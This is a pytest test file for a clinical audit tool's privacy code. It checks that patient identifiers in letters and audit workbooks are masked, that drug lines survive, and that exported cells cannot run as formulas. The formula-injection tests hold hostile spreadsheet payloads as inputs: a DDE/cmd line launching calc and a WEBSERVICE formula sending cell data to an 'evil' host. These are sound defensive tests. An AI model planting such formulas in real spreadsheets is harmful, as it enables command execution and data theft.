"""Identifiers are found and masked in letters and spreadsheets; drug lines are left alone;
exported cells never run as formulas."""
from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit_app import privacy
from audit_app.privacy import (
    DATE_OF_BIRTH,
    HOSPITAL_NUMBER,
    NHS_NUMBER,
    PATIENT_NAME,
    IdentifierSpan,
    find_identifiers,
    looks_like_identifier_column,
    mask_identifier,
    mask_record,
    mask_text,
    safe_cell,
    safe_csv_rows,
)

_TITLES = {"Mr", "Mrs", "Ms", "Miss", "Dr", "Mx"}


def header_identifiers(text: str) -> list[tuple[str, str]]:
    """The test's own (independent, corpus-specific) reading of a letter's header identifiers."""
    found = []
    for m in re.finditer(r"NHS (?:No|number):?\s*(\d[\d -]{8,11}\d)", text):
        found.append((NHS_NUMBER, m.group(1)))
    for m in re.finditer(r"(?:Hospital No|MRN|Hosp no):?\s*(\w+)", text):
        found.append((HOSPITAL_NUMBER, m.group(1)))
    for m in re.finditer(r"DOB:?\s*([^|(\n,]+?)(?:\s{2,}|\s*\||\s*\(|,|\n)", text):
        found.append((DATE_OF_BIRTH, m.group(1).strip()))
    for m in re.finditer(r"(?:Name|Patient|Re): (?:Mr|Mrs|Ms|Miss|Dr)?\s*([^|\n,]+(?:, \w+)?)", text):
        for tok in re.findall(r"[A-Za-z'-]{2,}", re.split(r", DOB", m.group(1))[0]):
            if tok not in _TITLES:
                found.append((PATIENT_NAME, tok))
    return found


def leaks(masked: str, identifiers: list[tuple[str, str]]) -> list[tuple[str, str]]:
    out = []
    for kind, value in identifiers:
        if kind == PATIENT_NAME:
            if re.search(rf"(?<![\w]){re.escape(value)}(?![\w])", masked, re.IGNORECASE):
                out.append((kind, value))
        elif value in masked:
            out.append((kind, value))
    return out


# --------------------------------------------------------------------------- unit cases
@pytest.mark.parametrize("text, kind, value", [
    ("NHS No: 9990353482", NHS_NUMBER, "9990353482"),
    ("NHS No: 999 609 1165 |", NHS_NUMBER, "999 609 1165"),
    ("NHS number 999-383-1252, Hosp", NHS_NUMBER, "999-383-1252"),
    ("valid 943 476 5919 too", NHS_NUMBER, "943 476 5919"),
    ("Hospital No: RX9450465   NHS", HOSPITAL_NUMBER, "RX9450465"),
    ("MRN: A009281 | DOB", HOSPITAL_NUMBER, "A009281"),
    ("MRN: 40903647 | DOB", HOSPITAL_NUMBER, "40903647"),
    ("Hosp no A603444\n", HOSPITAL_NUMBER, "A603444"),
    ("seen in clinic, ref K8524454.", HOSPITAL_NUMBER, "K8524454"),
    ("Unit No. 12345678", HOSPITAL_NUMBER, "12345678"),
    ("DOB: 05/01/1983 (41y)", DATE_OF_BIRTH, "05/01/1983"),
    ("Date of birth: 4 January 1968 |", DATE_OF_BIRTH, "4 January 1968"),
    ("D.O.B. 16-Feb-1950", DATE_OF_BIRTH, "16-Feb-1950"),
    ("born 1972-12-27 in", DATE_OF_BIRTH, "1972-12-27"),
    ("Patient: Miss Agnieszka YARDLEY\nDOB", PATIENT_NAME, "Miss Agnieszka YARDLEY"),
    ("Name: CLARKE, Michael | NHS No", PATIENT_NAME, "CLARKE, Michael"),
    ("Re: Mr David Szymanski, DOB 26/12/1992", PATIENT_NAME, "Mr David Szymanski"),
    ("Patient name: Priya Shah-Jones DOB: 1/2/1990", PATIENT_NAME, "Priya Shah-Jones"),
    ("Thank you for seeing Mrs Nkechi Ellison today", PATIENT_NAME, "Nkechi Ellison"),
])
def test_detects_identifier(text, kind, value):
    spans = find_identifiers(text)
    assert any(s.kind == kind and text[s.start:s.end] == value for s in spans), spans
    masked = mask_text(text)
    assert value not in masked and len(masked) == len(text)


def test_names_found_in_the_header_are_masked_everywhere():
    text = "Name: CLARKE, Michael | NHS No: 999 609 1165\n\nMr Clarke has neuropathy. Michael's pain settled."
    masked = mask_text(text)
    assert "Clarke" not in masked and "Michael" not in masked and "CLARKE" not in masked
    assert "neuropathy" in masked and "pain settled" in masked


@pytest.mark.parametrize("text", [
    "Oxycodone 5mg/5ml oral solution 2.5ml PO q4h prn (max 4 doses in 24 hours) (100 ml, 7 days' supply)",
    "| codeine 30mg | 60 mg | PO | q6h as needed | 7/7 | 40 tablets | renal colic | Started |",
    "Admitted: 27 March 2024   Discharged: 30 March 2024",
    "Consultant: Dr N Goldberg (Gynaecology)",
    "Morphine sulfate MR (Zomorph) 30mg BD, 56 capsules, TTO 28/7, GP to review",
    "Fentanyl 12 microgram/hour patch (Matrifen), change every 72 hours (x5 patches)",
    "Bleep 4471. Tel 0161 496 0000 ext 2345. Age: 52",
])
def test_does_not_mask_clinical_content(text):
    assert mask_text(text) == text, find_identifiers(text)


def test_identifier_span_shape():
    (span,) = [s for s in find_identifiers("NHS No: 9990353482") if s.kind == NHS_NUMBER]
    assert span == IdentifierSpan(NHS_NUMBER, 8, 18) and span.kind == "nhs_number"
    assert find_identifiers("") == [] and find_identifiers(None) == [] and mask_text(None) is None


def test_mask_identifier_reveals_nothing():
    assert mask_identifier("nhs_number", "999 609 1165") == "*** *** ****"
    assert mask_identifier("date_of_birth", "1971-09-08") == "**/**/****"
    assert mask_identifier("hospital_number", "RX9450465") == "********"
    assert mask_identifier("patient_name", "Al") == "***"
    assert mask_identifier("nhs_number", None) is None and mask_identifier("nhs_number", "") is None
    assert mask_identifier("nhs_number", "k:0123456789abcdef").startswith("k:01234567")


def test_nhs_check_digit():
    assert privacy.nhs_number_is_valid("943 476 5919")
    assert not privacy.nhs_number_is_valid("999 609 1165") or privacy.nhs_number_is_valid("9996091165")
    assert not privacy.nhs_number_is_valid("123")


# --------------------------------------------------------------------------- the dev corpus
def test_every_dev_letter_header_identifier_is_masked(dev_letters):
    n_ids = n_letters = 0
    for letter in dev_letters:
        text = letter["text"]
        ids = header_identifiers(text)
        kinds = {k for k, _ in ids}
        assert {NHS_NUMBER, HOSPITAL_NUMBER, DATE_OF_BIRTH, PATIENT_NAME} <= kinds, (letter["id"], ids)
        masked = mask_text(text)
        assert len(masked) == len(text)
        assert leaks(masked, ids) == [], letter["id"]
        n_ids += len(ids)
        n_letters += 1
    assert n_letters == 80 and n_ids >= 400  # 80 letters x (NHS, hospital no, DOB, 2 name tokens)


def test_masking_keeps_every_discharge_opioid_line(dev_letters):
    """Don't over-mask: the gold TTO span of every discharge opioid is unchanged, at the same place."""
    n = 0
    for letter in dev_letters:
        text, masked = letter["text"], mask_text(letter["text"])
        for op in letter["gold"]["opioids"]:
            pos = text.find(op["text"])
            assert masked[pos:pos + len(op["text"])] == op["text"], (letter["id"], op["text"])
            n += 1
        for d in letter["gold"]["distractors"]:
            assert d["text"] in masked, (letter["id"], d["text"])
        # admission/discharge dates survive
        for m in re.finditer(r"(?:Admitted|Discharged):? ([^|\n]+?)(?:\s{2,}|\s*\||\n| -)", text):
            assert m.group(1) in masked, (letter["id"], m.group(1))
    assert n == 86


# --------------------------------------------------------------------------- spreadsheets
def _sheet_table(ws):
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    header_i = max(range(min(6, len(rows))), key=lambda i: sum(isinstance(c, str) for c in rows[i]))
    header = [str(c).strip() if c is not None else "" for c in rows[header_i]]
    return header, rows[header_i + 1:]


def _workbooks(corpora_dir):
    import openpyxl

    paths = sorted((corpora_dir / "audit_rounds").glob("*.xlsx"))
    assert len(paths) == 3
    for p in paths:
        wb = openpyxl.load_workbook(p, data_only=True)
        ws = wb.worksheets[0]
        yield p.name, *_sheet_table(ws)


def test_identifier_columns_of_the_audit_workbooks(corpora_dir):
    seen = {}
    for name, header, rows in _workbooks(corpora_dir):
        for j, heading in enumerate(header):
            values = [r[j] for r in rows if j < len(r)]
            seen[(name, heading)] = looks_like_identifier_column(heading, values)
    ids = {k: v for k, v in seen.items() if v}
    assert ids == {("trust_a_round1.xlsx", "Hosp No"): HOSPITAL_NUMBER,
                   ("trust_a_round2.xlsx", "MRN"): HOSPITAL_NUMBER}, ids


@pytest.mark.parametrize("heading, values, kind", [
    ("NHS Number", [], NHS_NUMBER),
    ("Col7", ["9990353482", "999 609 1165", "999-383-1252", None, "?"], NHS_NUMBER),
    ("Col7", [9990353482, 9996091165.0, 9993831252], NHS_NUMBER),
    ("", ["RX9450465", "A009281", "K8524454", "H604698"], HOSPITAL_NUMBER),
    ("Ref no", ["40903647", "40027861", "40221412"], HOSPITAL_NUMBER),
    ("Days", ["40903647", "40027861", "40221412"], None),
    ("D.O.B.", [], DATE_OF_BIRTH),
    ("Patient name", [], PATIENT_NAME),
    ("Surname", [], PATIENT_NAME),
    ("Who", ["CLARKE, Michael", "Mrs Joan Allen", "PATEL, Brenda"], PATIENT_NAME),
    ("Drug name", ["oxycodone", "morphine"], None),
    ("Opioid name & dose", [], None),
    ("Pharmacist", ["lb", "JS"], None),
    ("Audit ID", ["R1-001", "R1-002"], None),
    ("Patient ref", ["P3-01", "P3-02"], None),
    ("Days supplied", ["14", "7 days", "4/52"], None),
])
def test_looks_like_identifier_column(heading, values, kind):
    assert looks_like_identifier_column(heading, values) == kind


def test_csv_export_of_the_audit_workbooks_holds_no_identifier(corpora_dir):
    """Every row exported with mask_record (unmapped columns detected by heading/shape, letter
    text masked) and safe_csv_rows: no hospital number, NHS number, DOB or patient name of that
    row survives. (Checked row by row: a patient's surname may also be another patient's GP's.)"""
    n_rows = n_ids = 0
    all_numbers: list[str] = []
    for name, header, rows in _workbooks(corpora_dir):
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(safe_cell(h) for h in header)
        for r in rows:
            if not any(v not in (None, "") for v in r):
                continue
            extra = {h: v for h, v in zip(header, r) if h}
            identifiers: list[tuple[str, str]] = []
            for h, v in extra.items():
                if v is not None and looks_like_identifier_column(h, []) == HOSPITAL_NUMBER:
                    identifiers.append((HOSPITAL_NUMBER, str(v)))
                if isinstance(v, str) and "\n" in v:
                    identifiers.extend(header_identifiers(v))
            rec = mask_record({"extra": extra})["extra"]
            line = io.StringIO()
            csv.writer(line).writerows(safe_csv_rows([[rec.get(h) for h in header]]))
            assert leaks(line.getvalue(), identifiers) == [], (name, r[0])
            out.write(line.getvalue())
            all_numbers += [v for k, v in identifiers if k != PATIENT_NAME]
            n_rows += 1
            n_ids += len(identifiers)
        assert leaks(out.getvalue(), [(HOSPITAL_NUMBER, v) for v in all_numbers]) == []
    assert n_rows >= 120 and n_ids >= 80 and len(all_numbers) >= 80


# --------------------------------------------------------------------------- properties
_nhs_digits = st.text(alphabet="0123456789", min_size=10, max_size=10)
_filler = st.text(alphabet=st.characters(blacklist_categories=("Nd",), blacklist_characters="\x00"), max_size=40)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(digits=_nhs_digits, sep=st.sampled_from(["", " ", "-"]), before=_filler, after=_filler)
def test_property_any_nhs_number_is_masked(digits, sep, before, after):
    number = f"{digits[:3]}{sep}{digits[3:6]}{sep}{digits[6:]}"
    text = f"{before} {number} {after}"
    masked = mask_text(text)
    assert number not in masked and len(masked) == len(text)
    assert not any(c.isdigit() for c in masked[len(before) + 1:len(before) + 1 + len(number)])


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_property_mask_text_is_char_for_char(text):
    masked = mask_text(text)
    assert len(masked) == len(text)
    for a, b in zip(text, masked):
        assert a == b or (a.isalnum() and b == "X")
    for span in find_identifiers(text):
        assert 0 <= span.start < span.end <= len(text) and span.kind in privacy.IDENTIFIER_KINDS


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=60), st.integers(), st.floats(allow_nan=False), st.none()))
def test_property_safe_cell_never_leaves_a_formula(value):
    out = safe_cell(value)
    if not isinstance(value, str):
        assert out is value or out == value
        return
    assert not privacy.is_formula_like(out)
    assert out == value or out == "'" + value


@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
    ("+44 1", "'+44 1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"), ("\n@x", "'\n@x"),
    ("\u00a0=1", "'\u00a0=1"), ("＝1+1", "'＝1+1"),
    ("oxycodone 5mg", "oxycodone 5mg"), ("a=b", "a=b"), ("", ""), (" ", " "), (-5, -5), (None, None),
])
def test_safe_cell_cases(value, expected):
    assert safe_cell(value) == expected


def test_safe_csv_rows_round_trip():
    rows = [["id", "comment"], [1, "=cmd|' /C calc'!A0"], [2, "-1+1"], [3, "fine"], [4, None]]
    out = io.StringIO()
    csv.writer(out).writerows(safe_csv_rows(rows))
    back = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[1] for r in back] == ["comment", "'=cmd|' /C calc'!A0", "'-1+1", "fine", ""]
    assert not any(privacy.is_formula_like(c) for r in back for c in r)


def test_hostile_workbook_round_trip_leaves_no_formula(tmp_path):
    """A hostile workbook's cells copied into a report and neutralised: the saved report holds
    no formula cell and no text cell that a spreadsheet would run."""
    import openpyxl

    hostile = ["=1+1", "+cmd", "-2", "@SUM(A1:A2)", "\t=x", "\r=y", " =HYPERLINK(\"http://evil\")",
               "=WEBSERVICE(\"http://evil/\"&A1)", "DDE(\"cmd\";\"/C calc\";\"!A0\")", "ok text"]
    src = openpyxl.Workbook()
    ws = src.active
    for i, v in enumerate(hostile, start=1):
        ws.cell(i, 1, v)  # openpyxl stores '=...' as formulas: the upload really holds formulas
    ws.cell(1, 2, "=A1*2")
    src.save(tmp_path / "hostile.xlsx")

    upload = openpyxl.load_workbook(tmp_path / "hostile.xlsx")
    assert any(c.data_type == "f" for row in upload.active.iter_rows() for c in row)
    report = openpyxl.Workbook()
    out = report.active
    for r, row in enumerate(upload.active.iter_rows(values_only=True), start=1):
        for c, v in enumerate(row, start=1):
            out.cell(r, c, safe_cell(v))
    assert privacy.neutralise_workbook(report) == 0  # safe_cell already did it
    report.save(tmp_path / "report.xlsx")

    check = openpyxl.load_workbook(tmp_path / "report.xlsx")
    cells = [c for row in check.active.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert not any(privacy.is_formula_like(c.value) for c in cells)
    assert check.active.cell(10, 1).value == "ok text"


def test_neutralise_workbook_catches_cells_written_without_safe_cell(tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["=1+1", "@x", "fine", 3])
    assert privacy.neutralise_workbook(wb) == 2
    wb.save(tmp_path / "r.xlsx")
    row = [c for c in openpyxl.load_workbook(tmp_path / "r.xlsx").active[1]]
    assert [c.value for c in row] == ["'=1+1", "'@x", "fine", 3] and all(c.data_type != "f" for c in row)


def test_huge_and_binary_text_is_masked_without_error():
    rng = __import__("random").Random(7)
    binary = bytes(rng.getrandbits(8) for _ in range(200_000)).decode("latin-1")
    text = binary + "\x00NHS No: 9990353482\x00" + "Patient: Mr Aaron Zed\n" * 2000 + "x" * 500_000
    masked = mask_text(text)
    assert len(masked) == len(text) and "9990353482" not in masked and "Zed" not in masked
    assert mask_text("\x00" * 1000) == "\x00" * 1000


def test_secret_file_is_created_once_and_private(tmp_path, monkeypatch):
    path = tmp_path / "cfg" / "secret.key"
    monkeypatch.setenv(privacy.SECRET_ENV, str(path))
    h1 = privacy.keyed_hash("999 609 1165", "nhs_number")
    assert path.exists() and oct(path.stat().st_mode & 0o777) == "0o600"
    assert privacy.keyed_hash("9996091165", "nhs_number") == h1  # spaces don't matter
    assert privacy.keyed_hash("9996091165", "hospital_number") != h1  # purposes don't collide
    assert not list(path.parent.glob(".secret-*"))  # no temporary file left behind
    path.write_text("00")
    with pytest.raises(RuntimeError, match="damaged"):
        privacy.keyed_hash("x")


@pytest.mark.parametrize("sheet_names", [frozenset(), frozenset({"whitfield", "okafor"})])
def test_mask_letter_is_name_tokens_then_mask_text_in_one_scan(dev_letters, sheet_names):
    """The store masks each letter with mask_letter: the same text and name words as finding the letter's name
    words first and masking with them, from one scan instead of two."""
    texts = [x["text"] for x in dev_letters] + ["Mr Okafor, 9434765919. Mr Whitfield-Okafor saw the GP.", "", "Seen."]
    for text in texts:
        names = sheet_names | privacy.name_tokens(text)
        assert privacy.mask_letter(text, sheet_names) == (privacy.mask_text(text, names), names)
